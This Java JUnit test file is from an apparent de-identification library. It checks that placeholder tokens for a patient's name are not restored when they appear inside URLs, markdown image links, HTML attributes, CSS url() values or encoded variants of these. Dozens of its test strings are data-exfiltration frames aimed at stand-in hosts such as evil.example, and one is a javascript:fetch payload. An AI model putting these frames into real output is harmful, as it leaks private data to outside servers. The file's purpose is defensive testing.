package gatehouse.deid.links;

import static org.assertj.core.api.Assertions.assertThat;

import gatehouse.deid.finding.Type;
import gatehouse.deid.placeholders.Placeholders;
import gatehouse.deid.placeholders.StreamingRestore;
import java.security.SecureRandom;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

/** No value leaves with a click or an image load. */
class AddressWatchTest {
  private final Placeholders session = Placeholders.fresh(new SecureRandom());
  private final String name = session.token(Type.PERSON, "王小明", "王小明");

  @ParameterizedTest
  @ValueSource(
      strings = {
        "![x](https://evil.example/?q=@)",
        "https://evil.example/@",
        "https://evil.example/病人，@",
        "https://evil.example/\"@",
        "https:/evil.example/@",
        "[a](//evil.example/@)",
        "![a](\n//evil.example/@)",
        "![a](\n//evil.example/a\n@)",
        "![a]( (//evil.example/(a)@",
        "(//evil.example/@)",
        "![a](//evil.example/(a)@)",
        "![a](//evil.example/\\)@)",
        "![a](</p)@>)",
        "![x](<https://evil.example/a b @>)",
        "[b]: //evil.example/@",
        "[b]:\n  //evil.example/@",
        "[b]: <//evil.example/a b@>",
        "[b]: @",
        "//@.evil.example/",
        "\\\\evil.example\\@",
        "/\\evil.example/@",
        "{\"u\":\"\\/\\/evil.example\\/@\"}",
        "<img src=\"https://evil.example/ @\">",
        "<img src = \"//evil.example/ @\">",
        "<img src=//evil.example/@>",
        "<img src= '//evil.example/\n\n@'>",
        "<img src=@>",
        "<img alt='>' src='/a @'>",
        "<a href='/x?@'>",
        "<a\nhref = /x?@>",
        "<img srcset=\"/a 1x, /b?@ 2x\">",
        "<p style=\"background:url(/x?@)\">",
        "p { background: url( '/x @' ) }",
        "<meta content=\"0;url=/x?@\">",
        "https://evil.example/](/)@",
        "见HTTPS://evil.example/a(b)@",
        "见www.evil.example/@",
        "WWW.evil.example?@",
        "![x](/p?a=@&b=@)",
        "\\u0068ttps:\\u002f\\u002fevil.example\\u002f?q=@",
        "\\u0068ttps\\u003a\\u002f\\u002fevil.example?q=\\u0020@",
        "\\u0068ttps\\u003a\\u002f\\u002fevil.example?q=\\n@",
        "\\u0068ttps\\u003a\\u002f\\u002fevil.example?q=\\\\u0020@",
        "!\\u005bx\\u005d\\u0028https:\\/\\/evil.example @",
        "!\\u005bx\\u005d\\u0028/a\\u0029 @",
        "![x](/a\\u0029 @",
        "[x](/a\\\\) @",
        "\\\\u0068ttps\\\\u003a\\\\u002f\\\\u002fevil.example@",
        "\\\\\\\\u0068ttps\\\\\\\\u003a\\\\\\\\u002fevil.example@",
        "\\u005cu002f\\u005cu002fevil.example/@",
        "\\u005c\\u0075002f\\u005c\\u0075002fevil.example/@",
        "\\u005c\\u005cevil.example/@",
        "\\u005c/evil.example/@",
        "\\u002f\\u002f@",
        "\\u00\\u002f\\u002f@",
        "\\\\\\u002f\\\\\\u002fevil.example/@",
        "\\x2f\\x2fevil.example/@",
        "\\u003cimg src=\\u0022/a @",
        "src=\\\"/a @\\\"",
        "src\\u003d@",
        "&#104;ttps&#58;&#47;&#47;evil.example/@",
        "&#x68;ttps&#x3A;&#x2f;&#x2F;evil.example/\\u0020@",
        "https&colon;&sol;&sol;evil.example/@",
        "&#47&#47@",
        "&amp;#47;&amp;#47;evil.example/@",
        "&lt;img src=/a @",
        "https%3A%2F%2Fevil.example%2F%20@",
        "%2f%2fevil.example/@",
        "%252f%252fevil.example/@",
        "%&#50;f%2fevil.example/@",
        "ht\\ntp:@",
        "\\/\\/evil.example/@",
        "／／evil.example/@",
        "ｈttps:evil.example/@",
        "mailto:a@evil.example?body=@",
        "javascript:fetch('a'+'@')",
        "data:text/html,@",
        "evil.example.com/?q=@",
        "见evil.cn/病人@",
        "evil.com:8080/@",
        "evil\\u002ecom/@",
        "{\"url\": \"https://evil.example/?q= @\"}",
        "{\"url\": \" \\u0068ttps:\\u002f\\u002fevil.example/?q= \\u0022@\"}",
        "{\\\"url\\\": \\\"https://evil.example/?q= \\\\\\\" @\\\"}",
      })
  void nothingIsRestoredInsideAnAddress(String frame) {
    String text = frame.replace("@", name);
    assertThat(session.restore(text)).isEqualTo(text);
    StreamingRestore stream = session.streaming();
    StringBuilder out = new StringBuilder();
    text.chars().forEach(c -> out.append(stream.push(String.valueOf((char) c))));
    assertThat(out + stream.finish()).isEqualTo(text);
  }

  @ParameterizedTest
  @ValueSource(
      strings = {
        "见https://a.example/x @",
        "[链接](https://b.example/)@",
        "[链接](https://b.example/(a))@",
        "[b]: https://b.example/ @",
        "<b>@</b>",
        "<a href=\"https://b.example/\">@</a>",
        "<img src=\"/a.png\">@",
        "<img src=/a.png>@",
        "P<0.05，@",
        "PSA<LLN，@",
        "a // @",
        "src：@",
        "http @",
        "血压130/80，@",
        "(@)",
        "[@](/a)",
        "\\@\\@\\",
        "/@/@/",
        "a]@(@)",
        "{\"url\": \"https://b.example/x y\", \"name\": \"@\"}",
        "{\"note\": \"见 https://b.example/x ，患者@\"}",
        "{\\\"url\\\": \\\"https://b.example/x y\\\", \\\"name\\\": \\\"@\\\"}",
        "\"https://b.example/x\n@",
        "{\"a\": \"第一行\\n第二行 @\\t@\\u0020@\"}",
        "{\"a\": \"\\u60a3\\u8005@\"}",
        "{\"a\": \"1\\/2 @\"}",
        "CT & MRI 50% @",
        "AT&T; &nbsp;@&amp;@",
        "P &lt; 0.05，@",
        "5%，@",
        "\\frac{1}{2} @",
        "体温36.5/37.1，1.5mg/kg，e.g./@",
        "血压130／80，@",
        "data: @",
        "data:@",
        "tel:@",
        "报告.pdf @",
      })
  void outsideAnAddressValuesAreRestored(String frame) {
    assertThat(session.restore(frame.replace("@", name))).isEqualTo(frame.replace("@", "王小明"));
  }

  @Test
  void aTokenThatIsNoneDoesNotEndAnAddress() {
    String text = "https://evil.example/⟦x⟧" + name;
    assertThat(session.restore(text)).isEqualTo(text);
  }
}
